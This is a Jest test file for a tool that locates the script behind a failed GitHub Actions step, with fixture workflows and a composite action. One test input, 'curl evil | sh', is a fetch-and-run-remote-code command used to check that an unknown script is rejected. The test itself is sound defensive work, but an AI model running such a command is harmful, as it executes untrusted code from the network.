// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflow files, not of this one.
import { describe, expect, test } from '@jest/globals';
import { type LocateOrder, locateCommand, runContexts } from '../../src/workflow/locate-command.js';

const CALLER = `
env: { OUTER: caller }
jobs:
  matrix:
    strategy: { matrix: { os: [linux, mac] } }
    uses: ./.github/workflows/inner.yml
    with: { os: '\${{ matrix.os }}', level: 3, secret: '\${{ secrets.X }}' }
    secrets: inherit
  remote:
    uses: other/repo/.github/workflows/x.yml@v1
  loop:
    uses: ./.github/workflows/ci.yml
  composite:
    runs-on: ubuntu-latest
    env: { JOB: yes please }
    steps:
      - uses: actions/checkout@v4
      - name: Check
        uses: ./.github/actions/check/
        with: { target: unit }
`;
const INNER = `
on: workflow_call
env: { OUTER: inner }
jobs:
  unit:
    name: Unit on \${{ inputs.os }}
    runs-on: x
    steps:
      - run: make test OS=\${{ inputs.os }} LEVEL=\${{ inputs.level }}
      - run: make deploy KEY=\${{ inputs.secret }}
`;
const ACTION = `
runs:
  using: composite
  steps:
    - run: npm ci
      shell: bash
    - run: npm run \${{ inputs.target }}
      shell: sh
      working-directory: packages/app
      env: { INSIDE: '1', TARGET: '\${{ inputs.target }}' }
    - run: npm run \${{ inputs.target }} -- --again
      shell: bash
`;
const FILES: Record<string, string> = {
  '.github/workflows/ci.yml': CALLER,
  '.github/workflows/inner.yml': INNER,
  '.github/actions/check/action.yaml': ACTION,
};

const locate = (over: Partial<LocateOrder>) =>
  locateCommand({
    workflowPath: '.github/workflows/ci.yml',
    read: async (path) => FILES[path] ?? null,
    jobName: 'composite',
    stepName: 'Check',
    stepNumber: 3,
    ...over,
  });

describe('a reusable workflow of the same repository', () => {
  test('is followed, with the values that it was given', async () => {
    const stepName = 'Run make test OS=mac LEVEL=3';
    const found = await locate({ jobName: 'matrix (mac) / Unit on mac', stepName });
    expect(found).toMatchObject({ command: { script: 'make test OS=mac LEVEL=3', env: { OUTER: 'inner' } } });
  });

  test('keeps the secrets that it was given to itself', async () => {
    const stepName = 'Run make deploy KEY=***';
    const printed = { jobName: 'matrix (mac) / Unit on mac', stepName, printedScript: 'make deploy KEY=***' };
    expect(await locate(printed)).toEqual({ reason: expect.stringContaining('masked') });
  });

  test.each([
    ['of another repository is refused', 'remote / build', 'other/repo/.github/workflows/x.yml@v1'],
    [
      'that calls itself ends',
      'loop / loop / loop / loop / loop / loop / loop / loop / loop / loop / loop / x',
      'too deeply',
    ],
  ])('%s', async (_what, jobName, reason) => {
    expect(await locate({ jobName })).toEqual({ reason: expect.stringContaining(reason) });
  });
});

describe('a composite action of the same repository', () => {
  test('is looked into for the script that the log shows', async () => {
    expect(await locate({ printedScript: 'npm run unit' })).toMatchObject({
      job: 'composite',
      command: {
        script: 'npm run unit',
        shell: 'sh -e {0}',
        workingDirectory: 'packages/app',
        env: { OUTER: 'caller', JOB: 'yes please', INSIDE: '1' },
        source: 'workflow',
      },
      notes: [expect.stringContaining('TARGET')],
    });
  });

  test.each([
    ['without a log', null, 'does not show which of its scripts'],
    ['with a script that is not one of its', 'curl evil | sh', 'is not one of the failed action'],
    ['with a script that could be two of its', 'npm run unit -- --again', 'More than one script'],
  ])('%s is refused', async (_what, printedScript, reason) => {
    expect(await locate({ printedScript })).toEqual({ reason: expect.stringContaining(reason) });
  });
});

describe('files that cannot be read', () => {
  test.each([
    ['the workflow', {}, '.github/workflows/ci.yml could not be read'],
    ['the called workflow', { '.github/workflows/ci.yml': CALLER }, '.github/workflows/inner.yml could not be read'],
  ])('%s', async (_what, files: Record<string, string>, reason) => {
    const found = await locate({ jobName: 'matrix (mac) / Unit on mac', read: async (path) => files[path] ?? null });
    expect(found).toEqual({ reason: expect.stringContaining(reason) });
  });

  test('or that GitHub does not name', async () => {
    expect(await locate({ workflowPath: null })).toEqual({ reason: expect.stringContaining('does not say which') });
  });
});

test('contexts leave out what is not known', () => {
  expect(runContexts({ github: { sha: 'abc', ref: null }, runner: { os: 'Linux' } })).toEqual({
    github: { sha: 'abc' },
    runner: { os: 'Linux' },
  });
});
